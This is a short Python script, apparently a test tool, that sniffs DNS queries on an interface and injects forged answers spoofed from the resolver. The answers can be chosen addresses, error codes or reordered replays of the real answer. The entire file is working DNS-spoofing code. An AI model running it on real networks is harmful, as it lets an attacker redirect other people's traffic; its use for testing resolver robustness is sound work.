#!/usr/bin/python3
"""Somebody on the way who sees DNS queries and answers them in the resolver's name; the queries pass all the same.

    dns_inject.py INTERFACE NAME ANSWER... [--delay SECONDS] [--ttl N] [--aa] [--ip-id N]

Each ANSWER is an address, "rcode:N", or "again" (the resolver's own answer once more, its records in another order).
"""
import argparse
import time

from scapy.all import DNS, DNSQR, DNSRR, IP, UDP, Ether, IPv6, conf, dns_compress, sendp, sniff


def reply_to(query, args):
    ip = query[IPv6] if IPv6 in query else query[IP]
    link = Ether(src=query[Ether].dst, dst=query[Ether].src)
    if IPv6 in query:
        network = IPv6(src=ip.dst, dst=ip.src, hlim=args.ttl)
    else:
        network = IP(src=ip.dst, dst=ip.src, ttl=args.ttl, id=args.ip_id)
    return link / network / UDP(sport=53, dport=query[UDP].sport)


def forged(query, answer, args):
    asked = query[DNS].qd[0]
    message = DNS(id=query[DNS].id, qr=1, rd=1, ra=1, aa=int(args.aa), qd=DNSQR(qname=asked.qname, qtype=asked.qtype))
    if answer.startswith("rcode:"):
        message.rcode = int(answer[6:])
    else:
        message.an = DNSRR(rrname=asked.qname, type=28 if ":" in answer else 1, ttl=300, rdata=answer)
    return dns_compress(reply_to(query, args) / message)


def repeated(response):
    """The same message in a new packet, the last record first."""
    again = response.copy()
    message = again[DNS]
    records = [(r.rrname, r.type, r.ttl, r.rdata) for r in (message.an[i] for i in range(message.ancount))]
    message.an, message.ar, message.arcount = None, None, 0
    for name, kind, ttl, data in records[-1:] + records[:-1]:
        record = DNSRR(rrname=name, type=kind, ttl=ttl, rdata=data)
        message.an = record if message.an is None else message.an / record
    for layer, fields in ((UDP, ("len", "chksum")), (IP, ("len", "chksum"))):
        for field in fields:
            delattr(again[layer], field)
    again[IP].id += 1
    return again


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("interface")
    parser.add_argument("name")
    parser.add_argument("answers", nargs="+")
    parser.add_argument("--delay", type=float, default=0)
    parser.add_argument("--ttl", type=int, default=64)
    parser.add_argument("--ip-id", type=int, default=4711)
    parser.add_argument("--aa", action="store_true")
    args = parser.parse_args()
    conf.verb = 0
    seen = set()

    def on_packet(packet):
        if DNS not in packet or not packet[DNS].qd or packet[DNS].qd[0].qname.rstrip(b".") != args.name.encode():
            return
        if packet[DNS].qr == 1 and args.answers == ["again"]:
            # Its own packets come by here as well.
            answered = (packet[UDP].dport, packet[DNS].id)
            if answered not in seen:
                seen.add(answered)
                sendp(repeated(packet), iface=args.interface)
        elif packet[DNS].qr == 0 and args.answers != ["again"]:
            time.sleep(args.delay)
            for answer in args.answers:
                if answer.startswith("rcode:") or (":" in answer) == (packet[DNS].qd[0].qtype == 28):
                    sendp(forged(packet, answer, args), iface=args.interface)

    print("injecting", flush=True)
    sniff(iface=args.interface, filter="udp port 53", prn=on_packet, store=False, started_callback=lambda: print("sees", flush=True))


main()
